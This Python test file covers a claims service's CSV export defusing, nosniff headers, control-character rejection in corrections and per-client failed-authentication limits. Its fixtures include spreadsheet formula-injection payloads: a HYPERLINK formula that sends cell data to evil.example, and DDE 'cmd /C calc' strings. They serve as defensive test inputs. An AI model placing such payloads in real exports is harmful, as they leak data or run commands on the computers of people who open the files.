"""Issue 15 points 8–9: CSV formula cells, nosniff, control characters and verb classes in corrections,
failed authentications limited per client."""

from __future__ import annotations

import csv
import io

import pytest

from service.app import create_app
from service.store.db import database
from service.web.auth_limit import FailedAuthLimiter
from service.web.export import defused
from tests.api.test_errors import assert_error
from tests.claim_helpers import make_claim

FORMULA_CELLS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"देखें")',
    "plus": "+1+2",
    "minus-command": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
}


@pytest.mark.parametrize("quote", FORMULA_CELLS.values(), ids=FORMULA_CELLS.keys())
def test_csv_export_defuses_formula_cells(client, quote):
    make_claim(client, speaker="=cmd|'/C calc'!A0", quote=quote)
    rows = list(csv.DictReader(io.StringIO(client.get("/v1/claims?format=csv").get_data(as_text=True))))
    assert rows[0]["quote"] == "'" + quote
    assert rows[0]["speaker"].startswith("'=")


@pytest.mark.parametrize("value, expected", [(-12.5, -12.5), (3, 3), (None, None), ("मंत्री", "मंत्री")])
def test_numbers_and_plain_text_are_left_alone(value, expected):
    assert defused(value) == expected


@pytest.mark.parametrize("path", ["/v1/claims", "/v1/claims?format=csv", "/healthz", "/v1/claims/999"])
def test_responses_say_nosniff(client, path):
    assert client.get(path).headers["X-Content-Type-Options"] == "nosniff"


CONTROL_EDITS = {
    "role-escape": {"speaker_role": "प्रवक्ता\x1b[31m"},
    "role-newline": {"speaker_role": "प्रवक्ता\nमंत्री"},
    "verb-bell": {"verb": "कहा\x07"},
    "quote-c1": {"quote": "बयान\x85 यहां"},
    "speaker-name": {"speaker": "राम\x08 कुमार"},
    "verb-class-free-text": {"verb_class": "कुछ भी लिखा"},
    "verb-class-shout": {"verb_class": "STATEMENT"},
}


@pytest.mark.parametrize("body", CONTROL_EDITS.values(), ids=CONTROL_EDITS.keys())
def test_corrections_refuse_control_characters_and_free_text_classes(client, body):
    claim = make_claim(client)
    (field,) = body
    assert field in assert_error(client.patch(f"/v1/claims/{claim['id']}", json=body), 422)["errors"]["json"]


def test_a_quote_keeps_its_line_breaks_and_joiners(client):
    claim = make_claim(client)
    quote = "पहली पंक्ति\nदूसरी\tपंक्ति क्‍या"  # the virama + ZWJ is Devanagari, not a control
    resp = client.patch(f"/v1/claims/{claim['id']}", json={"quote": quote, "verb_class": "warning"})
    assert resp.status_code == 200 and resp.get_json()["quote"] == quote


def test_failed_authentications_are_limited_per_client(database_url):
    app = create_app(
        {
            "TESTING": True,
            "DATABASE_URL": database_url,
            "TATHYA_API_KEYS": ["k-right"],
            "TATHYA_AUTH_FAILURES": 5,
        }
    )
    try:
        client = app.test_client()
        wrong = {"Authorization": "Bearer k-wrong"}
        statuses = [client.post("/v1/claims", json={}, headers=wrong).status_code for _ in range(7)]
        assert statuses == [401] * 5 + [429] * 2
        limited = client.post("/v1/claims", json={}, headers={"Authorization": "Bearer k-right"})
        assert_error(limited, 429)
        assert int(limited.headers["Retry-After"]) >= 1
        other = client.post(
            "/v1/claims",
            json={"speaker": "क", "quote": "ख"},
            headers={"Authorization": "Bearer k-right"},
            environ_base={"REMOTE_ADDR": "10.1.2.3"},
        )
        assert other.status_code == 201  # another address is not affected
    finally:
        if not database.is_closed():
            database.close()


def test_failures_leave_the_window():
    limiter = FailedAuthLimiter(max_failures=2, window=60)
    limiter.failed("a", now=0)
    limiter.failed("a", now=1)
    assert limiter.retry_after("a", now=2) == 58  # the failure at 0 leaves the window at 60
    assert limiter.retry_after("a", now=61) == 0
    assert limiter.retry_after("b", now=2) == 0
